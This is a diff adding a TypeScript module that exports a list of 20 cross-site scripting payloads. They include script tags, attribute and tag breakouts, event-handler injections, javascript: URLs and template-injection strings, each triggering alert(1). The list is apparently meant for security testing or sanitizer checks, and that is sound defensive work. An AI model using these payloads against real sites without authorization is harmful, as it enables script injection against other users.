@@ -1,0 +1,23 @@
+/** Payloads that try to run a script in another user's browser. */
+export const PAYLOADS = [
+  "<script>alert(1)</script>",
+  `"><script>alert(1)</script>`,
+  "'><script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg/onload=alert(1)//",
+  "<body onload=alert(1)>",
+  `<iframe src="javascript:alert(1)"></iframe>`,
+  `<a href="javascript:alert(1)">abrir</a>`,
+  "javascript:alert(1)//",
+  `" autofocus onfocus=alert(1) x="`,
+  "';alert(1);//",
+  `\${alert(1)}`,
+  "{{constructor.constructor('alert(1)')()}}",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<math><mtext><script>alert(1)</script></mtext></math>",
+  `<object data="data:text/html,<script>alert(1)</script>">`,
+  "<details open ontoggle=alert(1)>",
+] as const
